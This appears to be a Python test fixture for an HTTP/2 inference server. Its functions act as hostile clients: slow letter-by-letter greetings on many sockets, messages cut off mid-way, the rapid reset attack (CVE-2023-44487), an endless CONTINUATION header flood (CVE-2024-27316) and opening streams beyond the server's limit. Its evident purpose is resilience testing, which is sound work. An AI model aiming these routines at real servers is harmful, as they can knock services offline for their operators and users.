"""What hostile callers do to a server over plain sockets, one coroutine an attack. They check nothing."""

from __future__ import annotations

import asyncio
import contextlib
from collections.abc import AsyncIterator

import hpack
from hyperframe.frame import ContinuationFrame, HeadersFrame
from icehouse.v1 import inference_service_pb2 as messages

from tests.fixtures.rpc.http2 import Peer, framed, peer_of

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
MESSAGE = framed(messages.GenerateRequest(prompt={"text": "Hi"}, max_output_tokens=1).SerializeToString())

_BOUND_S = 20.0


@contextlib.asynccontextmanager
async def sockets(
    address: str, count: int
) -> AsyncIterator[list[tuple[asyncio.StreamReader, asyncio.StreamWriter]]]:
    """Open so many TCP connections that say nothing yet."""
    host, _, port = address.rpartition(":")
    opened = await asyncio.gather(*(asyncio.open_connection(host, int(port)) for _ in range(count)))
    try:
        yield opened
    finally:
        for _, writer in opened:
            writer.close()
            with contextlib.suppress(ConnectionError):
                await writer.wait_closed()


async def trickle_greetings(address: str, *, count: int) -> int:
    """Greet letter by letter on many connections; return how many the server has cut before the end."""
    async with sockets(address, count) as opened:
        cut = [asyncio.ensure_future(_cut_off(reader)) for reader, _ in opened]
        for letter in PREFACE[:-1]:
            for _, writer in opened:
                with contextlib.suppress(ConnectionError):
                    writer.write(bytes([letter]))
                    await writer.drain()
            done, _ = await asyncio.wait(cut, timeout=0.2)
            if len(done) == count:
                break
        done, waiting = await asyncio.wait(cut, timeout=_BOUND_S)
        for task in waiting:
            task.cancel()
        return len(done)


async def trickle_messages(address: str, *, connection_count: int, stream_count: int) -> list[int]:
    """Begin calls whose messages stop in the middle; return the status codes they end with."""

    async def one() -> list[int]:
        async with peer_of(address) as peer:
            streams = [await peer.open_call() for _ in range(stream_count)]
            for stream in streams:
                await peer.send(stream, MESSAGE[:-1])
            return [(await peer.status(stream))[0] for stream in streams]

    return [
        code for codes in await asyncio.gather(*(one() for _ in range(connection_count))) for code in codes
    ]


async def reset_rapidly(address: str, *, connection_count: int, reset_count: int) -> int:
    """Open calls, whole ones, and take each back at once (CVE-2023-44487); return how many were sent."""

    async def one() -> int:
        async with peer_of(address) as peer:
            for sent in range(reset_count):
                stream = await peer.open_call()
                await peer.send(stream, MESSAGE, end=True)
                await peer.reset(stream)
                if peer.is_closed:
                    return sent
            # What the server had to say has been read, so that it was busy with us and not we with it.
            with contextlib.suppress(EOFError):
                await peer.ping(1)
                await peer.answered(1)
            return reset_count

    return sum(await asyncio.gather(*(one() for _ in range(connection_count))))


async def never_end_headers(address: str, *, size_bytes: int) -> int:
    """Send one call's headers without an end (CVE-2024-27316); return the call's status code."""
    fragment = hpack.Encoder().encode([(f"x-{i}", "a" * 4000) for i in range(4)], huffman=False)
    async with peer_of(address) as peer:
        await peer.send_frame(HeadersFrame(1, fragment))
        for _ in range(size_bytes // len(fragment)):
            await peer.send_frame(ContinuationFrame(1, fragment))
        return (await peer.status(1))[0]


async def exceed_streams(peer: Peer, *, stream_count: int) -> None:
    """Begin calls, as many as wanted, whatever limit the server told."""
    for _ in range(stream_count):
        await peer.open_call()


async def _cut_off(reader: asyncio.StreamReader) -> None:
    with contextlib.suppress(ConnectionError):
        while await reader.read(1 << 10):
            pass
